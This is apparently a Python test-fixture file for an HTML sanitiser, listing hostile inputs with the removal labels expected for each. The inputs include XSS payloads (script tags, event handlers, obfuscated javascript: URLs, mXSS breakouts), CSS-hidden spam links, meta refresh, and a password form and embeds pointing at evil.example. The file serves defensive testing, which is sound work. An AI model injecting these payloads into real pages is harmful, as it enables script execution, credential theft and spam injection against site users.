"""Hostile HTML: what a compromised account, a pasted spam page or an attacker may submit.

Each case names the removals the sanitiser must report for it (labels of
``portal.sanitize.Removal``); whatever else, nothing executable or hidden may survive.
"""

# ruff: noqa: E501 (one case a line reads best)

from typing import NamedTuple


class HostileCase(NamedTuple):
    name: str
    html: str
    labels: tuple[str, ...]


SPAM = "http://spam.example/"
HIDDEN = f"隐藏链接（暗链）{SPAM}"

CASES = [
    # Scripts, however written.
    HostileCase("script", "<p>正文<script>alert(1)</script></p>", ("脚本 <script>",)),
    HostileCase("script upper case", "<SCRIPT>alert(1)</SCRIPT><p>正文</p>", ("脚本 <script>",)),
    HostileCase("script spaces", '<script  type="text/javascript" >alert(1)</script >', ("脚本 <script>",)),
    HostileCase("script split", "<scr<script>ipt>alert(1)</scr</script>ipt>", ("未知标签 <scr<script>",)),
    HostileCase("script src", '<script src="//evil.example/x.js"></script>', ("脚本 <script>",)),
    HostileCase("script entities", "&lt;script&gt;alert(1)&lt;/script&gt;<script>x</script>", ("脚本 <script>",)),
    # Event handlers.
    HostileCase("onerror", '<img src="/media/a.jpg" onerror="alert(1)" alt="图">', ("事件属性 onerror",)),
    HostileCase("onclick", '<p onclick="steal()">正文</p>', ("事件属性 onclick",)),
    HostileCase("onmouseover case", '<a href="/x/" ONMOUSEOVER="x()">链接</a>', ("事件属性 onmouseover",)),
    HostileCase("onload slash", '<img/src="/m.jpg"/onload="alert(1)"/alt="a">', ("事件属性 onload",)),
    # Script addresses.
    HostileCase("javascript href", '<a href="javascript:alert(1)">点我</a>', ("危险地址 javascript:",)),
    HostileCase("javascript tab", '<a href="java\tscript:alert(1)">点我</a>', ("危险地址 javascript:",)),
    HostileCase("javascript entities", '<a href="&#106;avascript&#58;alert(1)">点我</a>', ("危险地址 javascript:",)),
    HostileCase("javascript entity tab", '<a href="java&#x09;script:alert(1)">点我</a>', ("危险地址 javascript:",)),
    HostileCase("javascript mixed case", '<a href=" JaVaScRiPt:alert(1)">点我</a>', ("危险地址 javascript:",)),
    HostileCase("vbscript", '<a href="vbscript:msgbox(1)">点我</a>', ("危险地址 vbscript:",)),
    HostileCase("data html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>', ("危险地址 data:",)),
    # SVG and MathML.
    HostileCase("svg onload", '<svg onload="alert(1)"><circle r="1"/></svg><p>正文</p>', ("矢量图形 <svg>", "事件属性 onload")),
    HostileCase("svg script", "<svg><script>alert(1)</script></svg>", ("矢量图形 <svg>", "脚本 <script>")),
    HostileCase("math", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ("数学公式 <math>",)),
    # mXSS through elements parsed differently.
    HostileCase("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ("未知标签 <noscript>", "事件属性 onerror")),
    HostileCase("style breakout", '<style><img src=x onerror=alert(1)></style><p>正文</p>', ("样式表 <style>",)),
    HostileCase("template", "<template><script>alert(1)</script></template><p>正文</p>", ("未知标签 <template>", "脚本 <script>")),
    HostileCase("textarea", '<textarea><img src=x onerror=alert(1)></textarea>', ("表单控件 <textarea>",)),
    HostileCase("svg style", '<svg><style><img src=x onerror=alert(1)></style></svg>', ("矢量图形 <svg>",)),
    # Spam links hidden with styles (the seed page's kind of injection).
    HostileCase("display none", f'<div style="display:none"><a href="{SPAM}">博彩</a></div><p>正文</p>', ("隐藏样式 display:none", HIDDEN)),
    HostileCase("display none spaced", f'<div style="DISPLAY : NONE !important"><a href="{SPAM}">博彩</a></div>', ("隐藏样式 display:none", HIDDEN)),
    HostileCase("visibility", f'<span style="visibility:hidden"><a href="{SPAM}">博彩</a></span>', ("隐藏样式 visibility:hidden", HIDDEN)),
    HostileCase("font size zero", f'<p style="font-size:0"><a href="{SPAM}">博彩</a></p>', ("隐藏样式 font-size:0", HIDDEN)),
    HostileCase("off screen", f'<div style="position:absolute;left:-9999px;top:-9999px"><a href="{SPAM}">博彩</a></div>', ("隐藏样式 left:-9999px", HIDDEN)),
    HostileCase("text indent", f'<div style="text-indent:-9999px"><a href="{SPAM}">博彩</a></div>', ("隐藏样式 text-indent:-9999px", HIDDEN)),
    HostileCase("height zero", f'<div style="height:0;overflow:hidden"><a href="{SPAM}">博彩</a></div>', ("隐藏样式 height:0;overflow:hidden", HIDDEN)),
    HostileCase("opacity", f'<div style="opacity:0"><a href="{SPAM}">博彩</a></div>', ("隐藏样式 opacity:0", HIDDEN)),
    HostileCase("hidden attribute", f'<div hidden><a href="{SPAM}">博彩</a></div>', ("隐藏属性 hidden", HIDDEN)),
    HostileCase("marquee one pixel", f'<marquee height="1" width="1" scrollamount="3000"><a href="{SPAM}">博彩</a></marquee>', ("未知标签 <marquee>", HIDDEN)),
    HostileCase("link styled away", f'<p>正文<a href="{SPAM}" style="display:none">博彩</a></p>', ("隐藏样式 display:none", HIDDEN)),
    # Invisible links.
    HostileCase("one pixel image", f'<p>正文<a href="{SPAM}"><img src="/media/p.gif" width="1" height="1"></a></p>', (HIDDEN,)),
    HostileCase("zero pixel image", f'<p>正文<a href="{SPAM}"><img src="/media/p.gif" width="0" height="0"></a></p>', (HIDDEN,)),
    HostileCase("empty link", f'<p>正文<a href="{SPAM}"></a></p>', (HIDDEN,)),
    HostileCase("blank link", f'<p>正文<a href="{SPAM}"> &nbsp;\u3000</a></p>', (HIDDEN,)),
    HostileCase("zero width link", f'<p>正文<a href="{SPAM}">\u200b\u200d\ufeff</a></p>', (HIDDEN,)),
    HostileCase("empty elements link", f'<p>正文<a href="{SPAM}"><span></span><b> </b></a></p>', (HIDDEN,)),
    HostileCase("punctuation link", f'<p>正文<a href="{SPAM}">。</a></p>', (HIDDEN,)),
    # The seed page's tag soup, and old presentational tags.
    HostileCase("legend soup", f'<legend id="f8jhm"><ol id="f8jhm"></ol></legend><legend id="f8jhm"><a href="{SPAM}"><u id="f8jhm"></u></a></legend>', ("未知标签 <legend>", HIDDEN)),
    HostileCase("acronym", f'<acronym id="f8jhm"><a href="{SPAM}"> </a></acronym>', ("未知标签 <acronym>", HIDDEN)),
    HostileCase("font", '<font color="red" size="7">正文</font>', ("未知标签 <font>",)),
    # Redirects, base, forms, embeds.
    HostileCase("meta refresh", '<meta http-equiv="refresh" content="0;url=http://spam.example/"><p>正文</p>', ("自动跳转 <meta refresh>",)),
    HostileCase("base", '<base href="http://spam.example/"><p><a href="/x/">链接</a></p>', ("基准地址 <base>",)),
    HostileCase("form", '<form action="http://evil.example/"><input name="pwd" type="password"><button>登录</button></form>', ("表单 <form>",)),
    HostileCase("form controls", '<input type="image" src="x" onfocus="alert(1)" autofocus><button>按钮</button>', ("表单控件 <input>", "表单控件 <button>")),
    HostileCase("object", '<object data="http://evil.example/x.swf"></object><p>正文</p>', ("嵌入对象 <object>",)),
    HostileCase("embed", '<embed src="http://evil.example/x.swf"><p>正文</p>', ("嵌入对象 <embed>",)),
    HostileCase("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>正文</p>', ("嵌入页面 <iframe>",)),
    HostileCase("iframe src", '<iframe src="javascript:alert(1)"></iframe>', ("嵌入页面 <iframe>",)),
]  # fmt: skip
